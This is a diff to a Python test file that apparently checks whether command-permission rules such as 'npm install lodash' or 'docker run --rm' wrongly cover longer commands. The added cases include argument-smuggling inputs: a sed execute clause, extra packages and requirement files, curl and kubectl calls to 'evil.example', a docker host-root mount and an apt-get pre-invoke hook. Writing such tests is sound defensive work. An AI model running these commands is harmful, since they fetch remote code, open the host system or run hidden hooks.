@@ -80,6 +80,13 @@ def test_nor_do_rules_for_every_program_in_it() -> None:
         ("sqlite3 -header", "sqlite3 -header app.db < evil.sql"),
         ("python3 -u", "python3 -u < evil.py"),
         ("bash -x", "bash -x < evil.sh"),
+        ("sed -e", "sed -e '1e ./x' f"),
+        ("npm install lodash", "npm install lodash evil"),
+        ("pip install -r requirements.txt", "pip install -r requirements.txt -r evil.txt"),
+        ("curl https://example.com/x", "curl https://example.com/x https://evil.example"),
+        ("kubectl apply -f k8s", "kubectl apply -f k8s -f https://evil.example/x.yaml"),
+        ("docker run --rm", "docker run --rm -v /:/h alpine"),
+        ("apt-get install", "apt-get install -o Dpkg::Pre-Invoke::=x jq"),
     ],
 )
 def test_a_rule_of_several_words_covers_nothing_that_they_do_not_name(rule: str, command: str) -> None:
@@ -94,6 +101,12 @@ def test_a_rule_of_several_words_covers_nothing_that_they_do_not_name(rule: str,
         ("gcloud compute ssh", "gcloud compute ssh x"),
         ("aws s3 cp", "aws s3 cp a s3://b"),
         ("bash scripts/x.sh", "bash scripts/x.sh"),
+        ("npm install lodash", "npm install lodash --save-dev"),
+        ("kubectl get pods", "kubectl get pods web-1 -o wide"),
+        ("kubectl apply", "kubectl apply -f https://example.com/x.yaml"),
+        ("docker push", "docker push ghcr.io/me/app:1.2"),
+        ("git remote add origin", "git remote add origin https://example.com/x"),
+        ("docker run --rm", "docker run --rm -it node:20 npm test"),
     ],
 )
 def test_what_a_rule_names_it_covers(rule: str, command: str) -> None:
